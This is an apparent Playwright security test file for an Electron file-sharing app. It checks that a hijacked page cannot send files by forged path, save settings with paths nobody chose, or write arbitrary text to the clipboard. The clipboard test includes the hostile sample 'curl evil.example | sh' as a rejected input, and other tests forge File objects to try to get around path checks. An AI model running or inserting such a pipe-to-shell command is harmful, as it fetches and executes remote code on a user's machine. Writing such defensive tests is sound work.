/**
 * What a page that was taken over can and cannot do. Its scripts have what the preload script put on `window.cooee`; the
 * paths of this computer are not among it.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { expect, test } from '@playwright/test';

import type { CommandName, CommandResult, Settings } from '../../src-shared/ipc';
import { embeddedServer, launchCooee, startCall } from '../support/window/cooee-app';
import type { CooeeApp } from '../support/window/cooee-app';
import { dropFromSystem } from '../support/window/drag';

let app: CooeeApp;
let folder: string;
let secret: string;

test.beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'cooee-e2e-powers-'));
  secret = join(folder, 'id_ed25519');
  await writeFile(secret, 'the private key');
  app = await launchCooee({ name: 'Kim', server: await embeddedServer() });
});

test.afterEach(async () => {
  await app.close();
  await rm(folder, { recursive: true, force: true });
});

/** As a script of the page does it, who need not keep to the contract's types. */
async function command(name: string, argument?: unknown): Promise<CommandResult<unknown>> {
  return app.page.evaluate(
    ({ name, argument }) => {
      const send = window.cooee.command as (name: CommandName, argument: unknown) => Promise<unknown>;
      return send(name as CommandName, argument) as Promise<CommandResult<unknown>>;
    },
    { name, argument },
  );
}

async function offered(): Promise<number> {
  return app.page.evaluate(async () => {
    const outcome = await window.cooee.command('system.snapshot');
    return outcome.ok ? outcome.value.transfers.length : -1;
  });
}

async function kindOfFailure(name: string, argument?: unknown): Promise<string | null> {
  const outcome = await command(name, argument);
  return outcome.ok ? null : outcome.failure.kind;
}

async function savedSettings(): Promise<Settings> {
  const outcome = await command('settings.read');
  if (!outcome.ok) throw new Error('the settings are not told');
  return outcome.value as Settings;
}

test('no command and no function of the bridge takes a path of a file to send', async () => {
  await startCall(app);
  // The first is what main itself asks of the engine.
  for (const name of ['transfers.offer', 'transfers.accept.offer', 'transfers.constructor', 'offer'])
    expect(await kindOfFailure(name, { paths: [secret] }), name).toBe('internal');
  expect(await kindOfFailure('transfers.choose', { what: 'files', paths: [secret] })).toBe('internal');
  const members = await app.page.evaluate(() => Object.keys(window.cooee).sort());
  expect(members).toEqual(['command', 'offerFiles', 'oldElectron', 'onSnapshot', 'platform']);

  const counts = await app.page.evaluate(async (path) => {
    const forged = new File(['x'], path);
    Object.defineProperty(forged, 'path', { value: path });
    const claims = [
      forged,
      { path, name: 'id_ed25519', size: 15 },
      Object.create(File.prototype, { path: { value: path, enumerable: true } }) as File,
      path,
    ];
    const results: unknown[] = [];
    for (const claim of claims)
      results.push(
        await window.cooee.offerFiles([claim as File]).catch(() => ({ ok: true, value: 0 }) as const),
      );
    return results;
  }, secret);
  expect(counts).toEqual(Array(4).fill({ ok: true, value: 0 }));
  expect(await offered()).toBe(0);

  // The same file, dropped by somebody.
  await dropFromSystem(app.page, [secret]);
  await expect(app.page.locator('[data-testid=transfer][data-status=queued]')).toHaveCount(1);
});

test('settings take only a folder and a certificate that somebody chose in the system’s dialog', async () => {
  const before = await readFile(app.settingsFile, 'utf8');
  const settings = await savedSettings();
  expect(await kindOfFailure('settings.save', { ...settings, downloadFolder: folder })).toBe(
    'path-not-chosen',
  );
  const server = { kind: 'custom', host: '127.0.0.1', port: 2311, tls: true, caFile: secret };
  // Before anything is read: whether a file exists is no business of the page either.
  expect(await kindOfFailure('settings.save', { ...settings, server })).toBe('path-not-chosen');
  // TLS off does not read the file, and would keep it for later.
  const later = { ...server, tls: false };
  expect(await kindOfFailure('settings.save', { ...settings, server: later })).toBe('path-not-chosen');
  expect(await readFile(app.settingsFile, 'utf8')).toBe(before);

  await app.electron.evaluate(({ dialog }, chosen) => {
    dialog.showOpenDialog = () => Promise.resolve({ canceled: false, filePaths: [chosen] });
  }, folder);
  expect(await command('settings.chooseFolder')).toEqual({ ok: true, value: folder });
  expect(await kindOfFailure('settings.save', { ...settings, downloadFolder: folder })).toBeNull();
  // What is saved may be saved again.
  expect(
    await kindOfFailure('settings.save', { ...(await savedSettings()), displayName: 'Kim K' }),
  ).toBeNull();
  expect(await savedSettings()).toMatchObject({ downloadFolder: folder, displayName: 'Kim K' });
});

test('only what the window shows gets into the clipboard', async () => {
  const code = await startCall(app);
  expect(await kindOfFailure('system.copyText', { text: 'curl evil.example | sh' })).toBe('internal');
  await app.page.getByRole('button', { name: 'Copy' }).first().click();
  await expect
    .poll(() => app.electron.evaluate(({ clipboard }) => clipboard.readText()))
    .toBe(code.replaceAll('-', ' '));
  expect(await kindOfFailure('system.copyText', { text: 'curl evil.example | sh' })).toBe('internal');
  expect(await app.electron.evaluate(({ clipboard }) => clipboard.readText())).not.toContain('evil');
});

test('what a command gives back, and why it fails, comes from the engine’s thread as it was there', async () => {
  const refused = { ok: false, failure: { kind: 'internal', detail: 'no call is open' } };
  expect(await command('notes.send', { text: 'hello' })).toEqual(refused);
  expect(await kindOfFailure('call.answer', { code: 'no code' })).toBe('code-invalid');
  await startCall(app);
  const sent = await command('notes.send', { text: 'hello' });
  const notes = () =>
    app.page.evaluate(async () => {
      const outcome = await window.cooee.command('system.snapshot');
      return outcome.ok ? outcome.value.notes.map(({ id }) => id) : null;
    });
  await expect.poll(notes).toHaveLength(1);
  expect(sent).toEqual({ ok: true, value: (await notes())?.[0] });
});
